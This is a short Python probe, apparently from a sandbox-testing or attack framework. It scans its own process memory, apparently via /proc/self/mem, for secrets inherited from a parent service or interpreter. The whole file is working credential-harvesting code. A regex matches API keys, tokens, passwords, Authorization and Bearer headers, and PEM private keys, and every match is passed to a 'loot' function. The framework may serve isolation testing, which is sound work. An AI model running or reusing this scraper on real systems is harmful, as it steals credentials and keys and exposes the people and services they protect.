"""Searches its own memory for what the service or the interpreter that it was forked from left there."""
# walls: environment
# observe: unread
# depth: yes
# with: memory
import re

# A variable's or a header's name and what follows, and keys in armour; loot is bounded, memory is not.
WORTHY = re.compile(
    rb"(?:[A-Z_]*(?:API_KEY|SECRET|TOKEN|PASSWORD|CREDENTIAL)[A-Z_]*[=:]|authorization:? ?|Bearer )[ -~]{4,200}"
    rb"|-----BEGIN [A-Z ]*PRIVATE KEY-----[^-]{20,4000}"
)

scanned = 0
try:
    for _, found in memory("rw"):
        scanned += len(found)
        for match in WORTHY.finditer(found):
            loot(match.group()[:4096])
    tried(f"searched {scanned} bytes")
except OSError as error:
    tried(f"/proc/self/mem: {error.strerror}")
